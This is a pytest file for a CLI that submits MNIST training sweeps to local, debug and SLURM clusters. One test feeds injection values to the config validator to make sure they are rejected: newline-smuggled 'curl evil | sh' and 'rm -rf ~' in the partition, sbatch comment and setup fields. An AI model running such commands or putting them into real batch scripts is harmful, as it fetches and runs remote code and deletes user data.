"""Sweep files, bad input, and whole sweeps on submitit's local and debug clusters.

python -m pytest tests/test_sweep.py -q
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from mnist_dist.config import TrainConfig

from .conftest import REPO, assert_one_line_error, cli_error, run_cli


def write_sweep(path: Path, body: str, name: str = "t") -> Path:
    path.write_text(f'name = "{name}"\n{body}')
    return path


TINY = """
[grid]
seed = [0, 1]
[defaults]
step = "step4"
epochs = 1
train_limit = 256
eval_batch_size = 256
[resources]
cpus_per_task = 1
time_min = 5
"""


def status(out: Path) -> dict:
    proc = run_cli("status", str(out), "--json")
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


@pytest.mark.parametrize(
    "body, fragments",
    [
        ('[grid]\nseed = [0]\nsteps = ["step1"]\n', ["unknown key 'steps'", "[grid]"]),
        ("[grid]\nseed = [0]\n[resources]\ngpus = 1\n", ["unknown key 'gpus'", "[resources]"]),
        ("colour = 1\n[grid]\nseed = [0]\n", ["unknown key 'colour'"]),
        ('[grid]\nstep = ["nosuchstep"]\n', ["unknown step 'nosuchstep'"]),
        ("[grid]\nseed = []\n", ["empty grid", "seed"]),
        ("[defaults]\nepochs = 1\n", ["empty grid"]),
        ('[grid]\nseed = [0]\n[defaults]\nlr = "fast"\n', ["lr must be float", "'fast'"]),
        (
            "[grid]\nseed = [0]\n[resources]\ngpus_per_node = 2\ntasks_per_node = 1\n",
            ["one process per GPU"],
        ),
        ("[grid]\nseed = [0]\n[defaults]\nworld_size = 2\n", ["world_size comes from [resources]"]),
    ],
)
def test_bad_sweep_file_is_one_line_error_and_writes_nothing(tmp_path, capsys, body, fragments):
    f = write_sweep(tmp_path / "bad.toml", body)
    out = tmp_path / "out"
    line = cli_error(capsys, "sweep", str(f), "--cluster", "local", "--out", str(out))
    assert all(frag in line for frag in fragments), line
    assert not out.exists()


INJECT = "[grid]\nseed = [0]\n[resources]\n"


@pytest.mark.parametrize(
    "body, fragments",
    [
        (INJECT + 'partition = "debug\\ncurl evil | sh"\n', ["[resources].partition", "newline"]),
        (INJECT + 'account = "a\\rb"\n', ["[resources].account", "control character"]),
        (INJECT + 'qos = "q\\n"\n', ["[resources].qos"]),
        (INJECT + 'constraint = "c\\u0000"\n', ["[resources].constraint"]),
        (INJECT + 'sbatch_extra = { comment = "x\\nrm -rf ~" }\n', ["sbatch_extra.comment"]),
        (INJECT + 'sbatch_extra = { "x\\ny" = 1 }\n', ["sbatch_extra key"]),
        (INJECT + 'setup = ["module load x\\nrm -rf ~"]\n', ["setup[0]"]),
        (INJECT + "mem_gb = nan\n", ["mem_gb"]),
    ],
)
def test_values_that_reach_the_batch_script_are_one_line_each(tmp_path, capsys, body, fragments):
    f = write_sweep(tmp_path / "bad.toml", body)
    out = tmp_path / "out"
    line = cli_error(capsys, "sweep", str(f), "--dry-run", "--out", str(out))
    assert all(frag in line for frag in fragments), line
    assert not out.exists()


def test_a_name_is_matched_to_its_end(tmp_path, capsys):
    """`$` matches before a final newline: the name check must not let "t\\n" through."""
    f = tmp_path / "s.toml"
    f.write_text('name = "smoke\\n"\n[grid]\nseed = [0]\n')
    assert "name must be a folder-safe string" in cli_error(capsys, "sweep", str(f), "--dry-run")


def test_dry_run_shows_what_each_job_is_submitted_with(tmp_path, capsys):
    from mnist_dist.cli import main

    body = INJECT + 'partition = "cpu"\nsetup = ["module load cuda/12"]\n'
    body += 'sbatch_extra = { comment = "x" }\n'
    main(["sweep", str(write_sweep(tmp_path / "s.toml", body)), "--dry-run",
          "--out", str(tmp_path / "o")])  # fmt: skip
    out = capsys.readouterr().out
    assert '  slurm_partition = "cpu"' in out and '  name = "t"' in out
    assert '  slurm_additional_parameters = {"comment": "x"}' in out
    assert "setup lines before srun:\n  module load cuda/12\n" in out
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize(
    "make, args, fragment",
    [
        (lambda o: o.write_text(""), (), "is a file, not a sweep folder"),
        (lambda o: None, ("--poll", "-1"), "--poll must be at least 0.1 seconds"),
        (lambda o: None, ("--poll", "0"), "--poll must be at least 0.1 seconds"),
        (lambda o: None, ("--cluster", "slurm", "--report"), "--report reads the finished trials"),
        (lambda o: (o.mkdir(), (o / "sweep.json").write_text('{"trials": []}')), (),
         "not a readable sweep record (ValueError: no sweep name)"),
        (lambda o: (o.mkdir(), (o / "sweep.json").write_text(
            '{"name": "t", "trials": [{"trial_id": "a"}]}')), (), "KeyError: 'config'"),
        (lambda o: (o.mkdir(), (o / "sweep.json").write_text(
            '{"name": "t", "trials": [{"config": {}}]}')), (), "KeyError: 'trial_id'"),
    ],
)  # fmt: skip
def test_bad_folders_and_flags_are_one_line(tmp_path, capsys, make, args, fragment):
    out = tmp_path / "out"
    make(out)
    f = write_sweep(tmp_path / "s.toml", TINY)
    line = cli_error(capsys, "sweep", str(f), "--cluster", "local", "--out", str(out), *args)
    assert fragment in line, line


def test_a_lock_held_too_long_names_its_holder(tmp_path, capsys, monkeypatch):
    """The lock dies with its process, so a timeout means a live holder: it is named."""
    import subprocess as sp

    from mnist_dist.sweeps import state

    out = tmp_path / "out"
    code = (
        "import sys, time; from pathlib import Path; sys.path.insert(0, sys.argv[1])\n"
        "from mnist_dist.sweeps.state import record_lock\n"
        "with record_lock(Path(sys.argv[2])):\n    print('held', flush=True); time.sleep(60)"
    )
    holder = sp.Popen([sys.executable, "-c", code, str(REPO), str(out)], stdout=sp.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        real = state.record_lock
        monkeypatch.setattr(state, "record_lock", lambda o: real(o, timeout_s=0.5))
        from mnist_dist.sweeps import submit

        monkeypatch.setattr(submit, "record_lock", state.record_lock)
        f = write_sweep(tmp_path / "s.toml", TINY)
        line = cli_error(capsys, "sweep", str(f), "--cluster", "local", "--out", str(out))
        assert f"pid {holder.pid} on " in line and "did not let go within 0.5 s" in line, line
    finally:
        holder.kill()
        holder.wait()


def test_a_trials_table_with_lists_is_its_own_small_grid(tmp_path):
    body = (
        '[[trials]]\nstep = "step4"\nseed = [0, 1]\nlr = [0.01, 0.02]\n'
        '[[trials]]\nstep = "step5"\nseed = 3\n'
    )
    f = write_sweep(tmp_path / "s.toml", body)
    proc = run_cli("sweep", str(f), "--dry-run", "--out", str(tmp_path / "o"))
    assert proc.returncode == 0, proc.stderr
    assert "would submit 5 of 5 trials" in proc.stdout
    rows = re.findall(r"^(step\d)-s(\d)-\w+ +step\d +\d +.*?(0\.0\d+|0\.05)", proc.stdout, re.M)
    assert sorted(rows) == sorted(
        [("step4", s, lr) for s in "01" for lr in ("0.01", "0.02")] + [("step5", "3", "0.05")]
    )
    bad = write_sweep(tmp_path / "b.toml", '[[trials]]\nstep = "step4"\nseed = []\n')
    assert_one_line_error(run_cli("sweep", str(bad), "--dry-run"), "empty grid", "trials[0].seed")


def test_missing_file(tmp_path):
    proc = run_cli("sweep", str(tmp_path / "nope.toml"), "--out", str(tmp_path / "o"))
    assert_one_line_error(proc, "nope.toml", "not found")


@pytest.mark.slow
def test_over_ten_thousand_trials_needs_yes(tmp_path):
    f = write_sweep(tmp_path / "big.toml", f"[grid]\nseed = {list(range(10_001))}\n")
    out = tmp_path / "out"
    proc = run_cli("sweep", str(f), "--out", str(out))
    assert_one_line_error(proc, "10,001 trials", "--yes")
    assert not out.exists()
    # --yes lifts the cap: the plan covers every trial (dry run: still nothing written).
    proc = run_cli("sweep", str(f), "--out", str(out), "--yes", "--dry-run")
    assert proc.returncode == 0, proc.stderr
    assert "would submit 10001 of 10001 trials" in proc.stdout
    assert not out.exists()


def test_slurm_unreachable_submits_nothing(tmp_path):
    out = tmp_path / "out"
    smoke = str(REPO / "jobs" / "smoke.toml")
    # No SLURM client at all.
    proc = run_cli("sweep", smoke, "--out", str(out), env={"PATH": str(tmp_path)})
    assert_one_line_error(proc, "SLURM not reachable", "sbatch not found")
    # A client whose controller does not answer (nothing listens on port 9).
    conf = tmp_path / "slurm.conf"
    conf.write_text(
        "ClusterName=x\nSlurmctldHost=localhost(127.0.0.1)\nSlurmctldPort=9\n"
        "AuthType=auth/munge\nNodeName=localhost CPUs=1\nPartitionName=p Nodes=localhost\n"
    )
    if os.system("command -v sbatch >/dev/null") == 0:
        proc = run_cli("sweep", smoke, "--out", str(out), env={"SLURM_CONF": str(conf)})
        assert_one_line_error(proc, "SLURM not reachable", "scontrol ping")
    assert not out.exists()


@pytest.mark.parametrize(
    "name, n",
    [
        ("seed_sweep", 10),
        ("study", 25),
        ("bf16_check", 10),
        ("smoke", 4),
        ("goal_search", 45),
        ("pack_check", 10),
        ("quickstart", 6),
    ],  # fmt: skip
)
def test_shipped_sweep_files_dry_run(tmp_path, name, n):
    out = tmp_path / "out"
    proc = run_cli("sweep", str(REPO / "jobs" / f"{name}.toml"), "--dry-run", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert f"would submit {n} of {n} trials" in proc.stdout
    ids = re.findall(r"^(\w+-s\d+-[0-9a-f]{10}) ", proc.stdout, re.M)
    assert len(set(ids)) == n
    if name == "seed_sweep":  # the id is the resolved config's hash, seed included
        assert ids == [TrainConfig(step="step4", seed=s).trial_id() for s in range(10)]
    assert not out.exists()


@pytest.mark.parametrize(
    "sweep_file, folder, n", [("beyond", "beyond", 20), ("step4_cpu_seeds", "step4-seeds", 3)]
)
def test_rerunning_a_committed_sweep_over_its_folder_submits_nothing(sweep_file, folder, n):
    proc = run_cli(
        "sweep", str(REPO / "jobs" / f"{sweep_file}.toml"), "--dry-run",
        "--out", str(REPO / "results" / folder),
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert f"would submit 0 of {n} trials" in proc.stdout
    assert proc.stdout.count("skip (done)") == n


def test_default_dir_comes_from_sweep_name(tmp_path):
    proc = run_cli("sweep", str(REPO / "jobs" / "smoke.toml"), "--dry-run", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert str(Path("runs") / "sweeps" / "smoke") in proc.stdout.splitlines()[0]


@pytest.mark.slow
def test_local_sweep_failure_status_and_rerun(tmp_path, tiny_mnist):
    """One trial fails (corrupt checkpoint); the other finishes; a rerun redoes only it."""
    f = write_sweep(tmp_path / "s.toml", TINY)
    out = tmp_path / "out"
    args = ("sweep", str(f), "--cluster", "local", "--out", str(out), "--data-dir", str(tiny_mnist))
    bad_id = TrainConfig(
        step="step4", seed=1, epochs=1, train_limit=256, eval_batch_size=256
    ).trial_id()
    (out / bad_id).mkdir(parents=True)
    (out / bad_id / "checkpoint.pt").write_bytes(b"not a checkpoint")

    # A stray OMP_NUM_THREADS in the submitting shell must not override cpus_per_task (1).
    proc = run_cli(*args, "--poll", "0.5", env={"OMP_NUM_THREADS": "7"})
    assert proc.returncode == 1, proc.stdout + proc.stderr
    st = status(out)
    assert st["counts"]["done"] == 1 and st["counts"]["failed"] == 1
    done = next(t for t in st["trials"] if t["state"] == "done")
    assert json.loads((out / done["trial_id"] / "result.json").read_text())["threads"] == 1
    check = run_cli("status", str(out), "--check")  # scripts gate on a sweep with this
    assert check.returncode == 1 and "1 done, 1 failed" in check.stderr
    failed = next(t for t in st["trials"] if t["state"] == "failed")
    assert failed["trial_id"] == bad_id
    error_txt = (out / bad_id / "error.txt").read_text().strip().splitlines()
    assert error_txt[0].startswith("rank 0 on ") and error_txt[0].endswith(" failed:")
    assert failed["error"] == f"{error_txt[0].removesuffix(' failed:')}: {error_txt[-1]}"
    assert "is truncated or not a checkpoint" in failed["error"]
    assert "move it away" in failed["error"]  # the fix, as at resume
    record = json.loads((out / "sweep.json").read_text())
    assert [t["trial_id"] for t in record["trials"]] == [t["trial_id"] for t in st["trials"]]
    assert len(record["jobs"]) == 2

    # Another cause on the rerun: error.txt tells this attempt's, not the first one's.
    (out / bad_id / "checkpoint.pt").write_bytes(b"")
    assert run_cli(*args, "--poll", "0.5").returncode == 1
    again = {t["trial_id"]: t for t in status(out)["trials"]}[bad_id]
    assert again["state"] == "failed" and "checkpoint.pt is empty" in again["error"]

    # Fix the cause; the rerun submits only the failed trial and clears its error.txt.
    (out / bad_id / "checkpoint.pt").unlink()
    proc = run_cli(*args, "--poll", "0.5")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout.count("submit") == 1 and "skip (done)" in proc.stdout
    assert not (out / bad_id / "error.txt").exists()
    assert status(out)["counts"]["done"] == 2
    assert len(json.loads((out / "sweep.json").read_text())["jobs"]) == 4
    assert run_cli("status", str(out), "--check").returncode == 0


@pytest.mark.slow
def test_a_second_sweep_command_waits_for_the_folder_lock(tmp_path, tiny_mnist):
    """Two reruns of one folder never decide on the same trials at once."""
    from filelock import FileLock

    body = TINY.replace("seed = [0, 1]", "seed = [0]")
    f = write_sweep(tmp_path / "s.toml", body, name="lock")
    out = tmp_path / "out"
    out.mkdir()
    cmd = [sys.executable, "-m", "mnist_dist", "sweep", str(f), "--cluster", "local",
           "--out", str(out), "--data-dir", str(tiny_mnist), "--poll", "0.5"]  # fmt: skip
    env = {**os.environ, "PYTHONPATH": str(REPO), "WANDB_MODE": "disabled"}
    with FileLock(str(out / ".sweep.lock")):  # another `mnist-dist sweep` is submitting
        proc = subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        time.sleep(5)
        assert proc.poll() is None and not (out / "sweep.json").exists()
    stdout, stderr = proc.communicate(timeout=300)
    assert proc.returncode == 0, stdout.decode() + stderr.decode()
    assert status(out)["counts"]["done"] == 1


def test_unknown_slurm_state_is_never_resubmitted(tmp_path):
    """squeue does not answer: a recorded trial may still be queued, so nothing is submitted."""
    f = write_sweep(tmp_path / "s.toml", TINY)
    out = tmp_path / "out"
    assert run_cli("sweep", str(f), "--dry-run", "--out", str(out)).returncode == 0
    spec_ids = [
        TrainConfig(step="step4", seed=s, epochs=1, train_limit=256, eval_batch_size=256).trial_id()
        for s in (0, 1)
    ]
    out.mkdir()
    record = dict(
        name="t",
        trials=[dict(trial_id=t, config={}) for t in spec_ids],
        jobs=[dict(job_id="5_0", trial_ids=spec_ids[:1], cluster="slurm", token="k")],
    )
    (out / "sweep.json").write_text(json.dumps(record))
    proc = run_cli("sweep", str(f), "--dry-run", "--out", str(out), env={"PATH": str(tmp_path)})
    assert_one_line_error(proc, "squeue did not answer", "nothing submitted")
    st = run_cli("status", str(out), "--json", env={"PATH": str(tmp_path)})
    counts = json.loads(st.stdout)["counts"]
    assert (counts["unknown"], counts["missing"]) == (1, 1)


def test_wait_gives_up_when_squeue_stops_answering(tmp_path, monkeypatch):
    from mnist_dist.errors import UserError
    from mnist_dist.sweeps.submit import wait

    monkeypatch.setenv("PATH", str(tmp_path))  # squeue gone, as with a dead slurmctld
    record = dict(
        name="t",
        trials=[dict(trial_id="a", config={})],
        jobs=[dict(job_id="5_0", trial_ids=["a"], cluster="slurm", token="k")],
    )
    t0 = time.monotonic()
    with pytest.raises(UserError, match="has not answered for 1 s.*keep running.*status"):
        wait(tmp_path, record, poll=0.1, patience_s=1)
    assert time.monotonic() - t0 < 10


def test_debug_cluster_refuses_a_mixed_precision_grid(tmp_path, tiny_mnist):
    body = TINY.replace("seed = [0, 1]", 'seed = [0]\nmixed_precision = ["no", "bf16"]')
    f = write_sweep(tmp_path / "s.toml", body, name="mp")
    out = tmp_path / "out"
    proc = run_cli("sweep", str(f), "--cluster", "debug", "--out", str(out))
    assert_one_line_error(proc, "--cluster debug", "mixed precision", "--cluster local")
    assert not out.exists()


@pytest.mark.slow
def test_pack_seeds_trains_each_configs_seeds_in_packs(tmp_path, tiny_mnist):
    """pack_seeds = 2 over seeds 0-2: packs [0, 1] and [2], recorded; reruns keep them."""
    body = TINY.replace("seed = [0, 1]", "seed = [2, 0, 1]") + "pack_seeds = 2\n"
    f = write_sweep(tmp_path / "s.toml", body, name="packed")
    out = tmp_path / "out"
    args = ("sweep", str(f), "--cluster", "local", "--out", str(out), "--data-dir", str(tiny_mnist))
    proc = run_cli(*args, "--poll", "0.5")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    record = json.loads((out / "sweep.json").read_text())
    seed_of = {t["trial_id"]: t["config"]["seed"] for t in record["trials"]}
    assert [[seed_of[i] for i in p] for p in record["packs"]] == [[0, 1], [2]]
    assert sorted(len(j["trial_ids"]) for j in record["jobs"]) == [1, 2]  # one job per pack
    results = {seed_of[p.parent.name]: json.loads(p.read_text()) for p in out.glob("*/result.json")}
    assert results[0]["packed_with"] == [1] and results[1]["packed_with"] == [0]
    assert "packed_with" not in results[2]  # a pack of one takes the plain path
    assert not list(out.glob("*/error.txt"))
    assert not list(out.glob(".packs/*.pt"))  # a finished pack leaves no resume state
    # A lost result: the rerun submits its pack's missing seed only.
    (out / [t for t, s in seed_of.items() if s == 1][0] / "result.json").unlink()
    proc = run_cli(*args, "--poll", "0.5")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "submitted" not in proc.stdout or "1 trials in 1 jobs" in proc.stdout
    assert proc.stdout.count("skip (done)") == 2 and status(out)["counts"]["done"] == 3
    assert json.loads((out / "sweep.json").read_text())["packs"] == record["packs"]


def test_the_quickstart_ends_with_its_report_pair_and_pictures(tmp_path, tiny_mnist):
    """README command 1 (jobs/quickstart.toml --cluster local --report), shrunk to one
    epoch on the tiny data: two packs of 3 seeds, then the report in the same command."""
    out = tmp_path / "q"
    proc = run_cli("sweep", str(REPO / "jobs" / "quickstart.toml"), "--cluster", "local",
                   "--report", "--out", str(out), "--data-dir", str(tiny_mnist), "--poll", "0.5",
                   "--set", "epochs=1", "--set", "train_limit=192")  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr
    record = json.loads((out / "sweep.json").read_text())
    assert len(record["trials"]) == 6 and sorted(map(len, record["packs"])) == [3, 3]
    table = proc.stdout[proc.stdout.index("quickstart: final-epoch test accuracy") :]
    rows = [ln.split()[0] for ln in table.splitlines()[2:4]]
    assert rows == ["step6", "step7"] and "Welch's t-test" in table
    assert re.search(r"^\s*step6\s+step7\s+3\s+3\s", table, re.M)  # the pair, 3 seeds each
    assert "| step6 |" in (out / "report.md").read_text()
    assert {p.name for p in (out / "plots").iterdir()} == {
        "final_acc_vs_params.png", "performance.png", "test_acc_per_epoch.png"}  # fmt: skip


def test_pack_seeds_refuses_several_processes_per_trial(tmp_path):
    body = TINY + "pack_seeds = 4\ntasks_per_node = 2\n"
    f = write_sweep(tmp_path / "s.toml", body, name="bad")
    proc = run_cli("sweep", str(f), "--cluster", "local", "--out", str(tmp_path / "o"))
    assert_one_line_error(proc, "pack_seeds", "cannot also run 2 processes")
    assert not (tmp_path / "o").exists()


@pytest.mark.slow
def test_local_two_tasks_over_gloo(tmp_path, tiny_mnist):
    """tasks_per_node = 2: submitit's TorchDistributedEnvironment -> Accelerate MULTI_CPU."""
    body = TINY.replace("seed = [0, 1]", "seed = [0]") + "tasks_per_node = 2\n"
    f = write_sweep(tmp_path / "s.toml", body, name="two")
    out = tmp_path / "out"
    proc = run_cli(
        "sweep", str(f), "--cluster", "local", "--out", str(out), "--data-dir", str(tiny_mnist)
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    (trial,) = status(out)["trials"]
    result = json.loads((out / trial["trial_id"] / "result.json").read_text())
    assert result["world_size"] == 2 and result["test_images"] == 256


@pytest.mark.slow
def test_debug_cluster_runs_in_process(tmp_path, tiny_mnist):
    body = TINY.replace("seed = [0, 1]", "seed = [3]")
    f = write_sweep(tmp_path / "s.toml", body, name="dbg")
    out = tmp_path / "out"
    proc = run_cli(
        "sweep", str(f), "--cluster", "debug", "--out", str(out), "--data-dir", str(tiny_mnist)
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    st = status(out)
    assert st["counts"]["done"] == 1 and st["trials"][0]["seed"] == 3
    assert st["trials"][0]["final_test_acc"] is not None


# ---- --set overrides ------------------------------------------------------------------


def test_set_overrides_defaults_and_grid_in_the_plan(tmp_path):
    """The issue's example: 2 epochs, 3 seeds per step, without copying the file."""
    out = tmp_path / "out"
    smoke = str(REPO / "jobs" / "smoke.toml")
    proc = run_cli("sweep", smoke, "--set", "epochs=2", "--set", "grid.seed=[0,1,2]",
                   "--dry-run", "--out", str(out))  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert "overrides: epochs=2 grid.seed=[0,1,2]" in proc.stdout
    assert "would submit 6 of 6 trials" in proc.stdout
    table = [ln.split() for ln in proc.stdout.splitlines() if re.match(r"step\d-s\d", ln)]
    head = next(ln.split() for ln in proc.stdout.splitlines() if ln.startswith("trial "))
    col = {name: head.index(name) for name in ("step", "seed", "epochs", "train_limit")}
    got = sorted((r[col["step"]], int(r[col["seed"]])) for r in table)
    assert got == [(s, n) for s in ("step3", "step4") for n in range(3)]
    assert {r[col["epochs"]] for r in table} == {"2"}
    assert {r[col["train_limit"]] for r in table} == {"2000"}  # the file's other defaults stay
    ids = {r[0] for r in table}
    assert ids == {
        TrainConfig(step=s, seed=n, epochs=2, train_limit=2000).trial_id()
        for s in ("step3", "step4")
        for n in range(3)
    }
    assert not out.exists()


def test_override_parsing_and_precedence():
    """Unit: a bare key means defaults; values are TOML, bare words strings; the override
    takes a key out of the other table ([grid] <-> [defaults])."""
    from mnist_dist.sweeps.spec import apply_overrides, parse_override

    assert parse_override("epochs=2") == (["defaults", "epochs"], 2)
    assert parse_override("grid.seed=[0, 1]") == (["grid", "seed"], [0, 1])
    assert parse_override("lr=1e-3") == (["defaults", "lr"], 0.001)
    assert parse_override("compile=true") == (["defaults", "compile"], True)
    assert parse_override("step=step5") == (["defaults", "step"], "step5")
    assert parse_override('step="step5"') == (["defaults", "step"], "step5")
    assert parse_override("resources.sbatch_extra={mail-type = 'END'}") == (
        ["resources", "sbatch_extra"],
        {"mail-type": "END"},
    )
    data = {"name": "x", "grid": {"seed": [0, 1], "step": ["step4"]}, "defaults": {"epochs": 1}}
    got = apply_overrides(data, ["seed=3", "grid.epochs=[1,2]", "wandb.mode=offline"])
    assert got["grid"] == {"step": ["step4"], "epochs": [1, 2]}
    assert got["defaults"] == {"seed": 3} and got["wandb"] == {"mode": "offline"}
    assert data["grid"] == {"seed": [0, 1], "step": ["step4"]}  # the parsed file is untouched


@pytest.mark.parametrize(
    "sets, fragments",
    [
        (["epoch=2"], ["unknown key 'epoch'", "[defaults]", "valid keys"]),
        (["epochs=two"], ["[defaults].epochs must be int", "'two'"]),
        (['epochs="2"'], ["[defaults].epochs must be int", "'2'"]),
        (["grid.seed=3"], ["[grid].seed must be a list", "scalars go in [defaults]"]),
        (["resources.gpus=1"], ["unknown key 'gpus'", "[resources]"]),
        (["wandb.mode=loud"], ["[wandb].mode must be off, offline or online"]),
        (["step=nosuchstep"], ["unknown step 'nosuchstep'"]),
        (["lr=nan"], ["--lr must be a finite number, got nan"]),  # TOML's nan and inf
        (["rotate_deg=inf"], ["--rotate-deg must be a finite number, got inf"]),
        (["grid.seed=[0,-1]"], ["--seed must be in [0, 4294967295]", "got -1"]),
        (["epochs"], ["--set 'epochs' is not key=value"]),
        (["=2"], ["is not key=value"]),
        (["grid.seed=[0,1"], ["'[0,1' is not a TOML value"]),
        (["epochs=1.2.3"], ["'1.2.3' is not a TOML value"]),
        (["foo.bar=1"], ["'foo.bar' is not KEY or TABLE.KEY", "defaults"]),
        (["grid.a.b=[1]"], ["'grid.a.b' is not KEY or TABLE.KEY"]),
    ],
)
def test_bad_set_is_one_line_error_and_writes_nothing(tmp_path, capsys, sets, fragments):
    out = tmp_path / "out"
    argv = [a for s in sets for a in ("--set", s)]
    line = cli_error(capsys, "sweep", str(REPO / "jobs" / "smoke.toml"), *argv, "--cluster",
                     "local", "--out", str(out))  # fmt: skip
    assert all(frag in line for frag in fragments), line
    assert not out.exists()


@pytest.mark.slow
def test_rerun_with_other_overrides_adds_its_trials_to_the_record(tmp_path, tiny_mnist):
    """Earlier trials stay in sweep.json (after this run's), and status and report see them."""
    f = write_sweep(tmp_path / "s.toml", TINY.replace("seed = [0, 1]", "seed = [0]"), name="acc")
    out = tmp_path / "out"
    args = ("sweep", str(f), "--cluster", "debug", "--out", str(out), "--data-dir", str(tiny_mnist))
    assert run_cli(*args).returncode == 0
    first = json.loads((out / "sweep.json").read_text())
    assert first["overrides"] == [] and len(first["trials"]) == 1

    proc = run_cli(*args, "--set", "grid.seed=[1]", "--set", "train_limit=128")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "1 trial(s) of earlier runs" in proc.stdout and proc.stdout.count("submit") == 1
    record = json.loads((out / "sweep.json").read_text())
    assert record["overrides"] == ["grid.seed=[1]", "train_limit=128"]
    new_id = TrainConfig(step="step4", seed=1, epochs=1, train_limit=128,
                         eval_batch_size=256).trial_id()  # fmt: skip
    assert [t["trial_id"] for t in record["trials"]] == [new_id, first["trials"][0]["trial_id"]]
    assert record["trials"][0]["overrides"] == record["overrides"]
    assert record["trials"][1]["overrides"] == []
    assert len(record["jobs"]) == 2
    st = status(out)
    assert st["counts"]["done"] == 2 and {t["seed"] for t in st["trials"]} == {0, 1}
    report = run_cli("report", str(out), "--json", "--by", "train_limit")
    assert report.returncode == 0, report.stderr
    rep = json.loads(report.stdout)
    reported = sorted(t for g in rep["groups"] for t in g["trials"])
    assert reported == sorted(t["trial_id"] for t in record["trials"]) and rep["missing"] == []

    # The first command again: nothing to do, and the override's trial stays listed.
    proc = run_cli(*args)
    assert proc.returncode == 0 and "nothing to submit" in proc.stdout
    assert len(json.loads((out / "sweep.json").read_text())["trials"]) == 2
